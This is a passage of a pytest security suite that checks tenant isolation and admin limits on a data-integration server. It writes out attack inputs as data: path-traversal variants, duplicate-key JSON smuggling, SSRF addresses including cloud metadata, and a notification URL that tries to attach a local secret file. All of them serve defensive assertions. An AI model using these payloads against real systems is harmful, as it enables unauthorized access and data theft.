        ("GET", f"/v1/sources/%7B{theirs['source']}%7D", None),
        ("GET", f"/v1/sources/{own['source']}/../{theirs['source']}", None),
        ("GET", f"/v1/sources?workspaceIds={arena.mine}&workspaceIds={arena.victim}", None),
        ("GET", f"/v1/jobs?workspaceIds={arena.mine},{arena.victim}", None),
    ):
        answer = eve.request(method, path, json=body)
        hidden = answer.status_code in (400, 403, 404, 405, 422)
        assert hidden or answer.json().get("data") == [], (path, answer.status_code, answer.text)
        assert not any(secret in answer.text for secret in SECRETS), (path, answer.text)
    twice = f'{{"sourceId": "{own["source"]}", "sourceId": "{theirs["source"]}"}}'
    for raw in (twice, f'{{"sourceId": "{theirs["source"]}", "SourceId": "{own["source"]}"}}'):
        answer = eve.post("/api/v1/sources/get", content=raw, headers={"Content-Type": "application/json"})
        assert answer.status_code == 403, answer.text
    assert arena.root.get(f"{OWN}/connections/{connection}/state").json() == before
    assert arena.root.get(f"/v1/connections/{connection}").json()["status"] == "active"


def test_nobody_without_credentials_gets_in_by_another_spelling_of_a_path(arena: Arena) -> None:
    for path in (
        "/v1/sources", "//v1/sources", "/v1//sources", "/v1/health/../sources", "/v1/health/%2e%2e/sources",
        "/api/v1/health/../sources/list", "/API/v1/sources", "/v1/sources/", "/v1/sources?x=/v1/health",
        "/applications/token/../../v1/sources", "/api/kitestring/v1/session/login/../../users", "/metrics/", "/metrics",
        "/api/kitestring/v1/settings", "/api/kitestring/v1/workers", "/v1;/sources", "/v1/sources%00",
    ):  # fmt: skip
        answer = arena.open.get(path)
        found = answer.headers.get("content-type", "").startswith("text/html")  # the interface's page, without data
        assert found or answer.status_code in (301, 307, 308, 400, 401, 404), (path, answer.status_code, answer.text)
        assert not any(secret in answer.text for secret in SECRETS)


def test_a_custom_connector_of_another_workspace_is_nobody_elses(arena: Arena) -> None:
    place = f"/v1/workspaces/{arena.victim}/definitions/declarative_sources"
    secret = manifest(arena, requester={"request_headers": {"X-Key": "token-of-the-victim"}})
    made = arena.root.post(place, json={"name": "record-of-the-victim", "manifest": secret}).json()
    eve, definition = arena.eve, made["id"]
    create = {"name": "x", "workspaceId": arena.mine, "definitionId": definition, "configuration": {}}
    config = {"connectionConfiguration": {}, "sourceDefinitionId": definition, "workspaceId": arena.mine, "name": "x"}
    draft = {"kind": "source", "workspaceId": arena.mine, "definitionId": definition, "configuration": {}}
    own = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    for method, path, body in (
        ("POST", "/v1/sources", create),
        ("POST", "/api/v1/sources/create", config),
        ("POST", f"{OWN}/check", draft),
        ("GET", f"{place}/{definition}", None),
        ("GET", f"{own}/{definition}", None),
        ("PUT", f"{own}/{definition}", {"manifest": manifest(arena)}),
        ("PUT", f"{place}/{definition}", {"manifest": manifest(arena)}),
        ("DELETE", f"{place}/{definition}", None),
        ("GET", f"{OWN}/connectors/source/{definition}", None),
        ("POST", "/api/v1/source_definitions/get", {"sourceDefinitionId": definition}),
        ("POST", "/api/v1/source_definition_specifications/get", {"sourceDefinitionId": definition}),
        (
            "POST",
            "/api/v1/source_definition_specifications/get",
            {"sourceDefinitionId": definition, "workspaceId": arena.mine},
        ),
    ):
        answer = eve.request(method, path, json=body)
        assert answer.status_code in (403, 404, 422), (path, answer.text)
        assert not any(secret in answer.text for secret in SECRETS), (path, answer.text)
    for path in (f"/v1/connector_definitions?type=source&workspaceId={arena.mine}", f"{OWN}/connectors?kind=source"):
        assert definition not in eve.get(path).text


def test_a_custom_connector_that_an_editor_changes_is_the_editors(arena: Arena) -> None:
    """An admin's source keeps what the admin gave it only while the connector is what the admin saw."""
    if arena.hardened:
        pytest.skip("a hardened server writes no local files")
    place = f"/v1/workspaces/{arena.mine}/definitions/declarative_sources"
    made = arena.root.post(place, json={"name": "trusted", "manifest": manifest(arena)}).json()
    config = {"files_folder": str(arena.outside / "admins")}
    body = {"name": "t", "workspaceId": arena.mine, "definitionId": made["id"], "configuration": config}
    source = arena.root.post("/v1/sources", json=body).json()["sourceId"]
    read = f"{OWN}/sources/{source}/read"
    assert arena.eve.post(read, json={"stream": "things"}).status_code == 200
    evil = {"manifest": manifest(arena, stream=FILES)}
    assert arena.eve.put(f"{place}/{made['id']}", json=evil).status_code == 200
    answer = arena.eve.post(read, json={"stream": "things"})
    assert answer.status_code == 422, answer.text
    assert "instance_admin" in answer.text


@pytest.mark.parametrize("role", ["workspace_admin", "organization_admin"])
def test_an_admin_of_a_workspace_or_an_organization_does_not_administer_the_machine(arena: Arena, role: str) -> None:
    email = f"{role.replace('_', '-')}@example.com"
    where = ["--workspace", arena.mine] if role.startswith("workspace") else []
    arena.add(email, *where, "--role", role)
    client = arena.client(email)
    for config in (
        {"sourceType": "airbyte", "command": arena.command},
        {"sourceType": "postgres", "host": "/var/run/postgresql"},
    ):
        draft = {"kind": "source", "workspaceId": arena.mine, "configuration": config}
        refused(client.post(f"{OWN}/check", json=draft))
        body = {"name": "x", "workspaceId": arena.mine, "configuration": config}
        assert client.post("/v1/sources", json=body).status_code == 422
    for way in ("syslog://", "dbus://", f"json://127.0.0.1:1/?attach={arena.outside}/secret.txt"):
        told = {"workspaceId": arena.mine, "way": "apprise", "url": way}
        assert client.post(f"{OWN}/notifications/test", json=told).json()["status"] == "failed"
    assert client.get(f"{OWN}/settings").status_code == 403


def test_users_and_permissions_of_others_are_nobodys(arena: Arena) -> None:
    eve = arena.eve
    root = arena.root.get(f"{OWN}/session").json()["userId"]
    (grant, *_) = arena.root.get(f"/v1/permissions?userId={root}").json()["data"]
    organization = arena.root.get("/v1/organizations").json()["data"][0]["organizationId"]
    pair = {"client_id": "a", "client_secret": "b"}
    client = {"actorType": "source", "name": "github", "configuration": pair}
    for method, path, body in (
        ("GET", f"/v1/permissions?userId={root}", None),
        ("GET", f"/v1/permissions/{grant['permissionId']}", None),
        ("DELETE", f"/v1/permissions/{grant['permissionId']}", None),
        ("PATCH", f"/v1/permissions/{grant['permissionId']}", {"permissionType": "workspace_reader"}),
        ("GET", f"/v1/users?organizationId={organization}", None),
        ("POST", "/api/v1/users/get", {"userId": root}),
        ("POST", "/api/v1/users/update", {"userId": root, "name": "evil"}),
        ("POST", "/api/v1/permissions/list_by_user", {"userId": root}),
        ("PUT", f"/v1/organizations/{organization}/oauthCredentials", client),
        ("DELETE", f"/v1/organizations/{organization}/oauthCredentials/source/github", None),
    ):
        answer = eve.request(method, path, json=body)
        assert answer.status_code in (403, 404, 405) or root not in answer.text, (path, answer.text)
        assert "root@example.com" not in answer.text, (path, answer.text)
    mine = {one["clientId"] for one in arena.root.get("/v1/applications").json()["applications"]}
    assert not mine & {one["clientId"] for one in eve.get("/v1/applications").json()["applications"]}
    for one in mine:
        assert eve.get(f"/v1/applications/{one}").status_code in (403, 404)
        assert eve.delete(f"/v1/applications/{one}").status_code in (403, 404)


def test_a_private_address_is_out_of_reach_where_the_server_is_hardened(arena: Arena) -> None:
    values = manifest(arena)
    for base in (arena.lair.url, "http://localhost:1", "http://[::1]:1", "http://2130706433", "http://169.254.169.254"):
        values["streams"][0]["retriever"]["requester"]["url_base"] = base
        reading = {"workspaceId": arena.mine, "manifest": values, "stream": "things"}
        if arena.hardened:
            answer = arena.eve.post(f"{OWN}/builder/read", json=reading)
            assert "public internet" in answer.text, answer.text
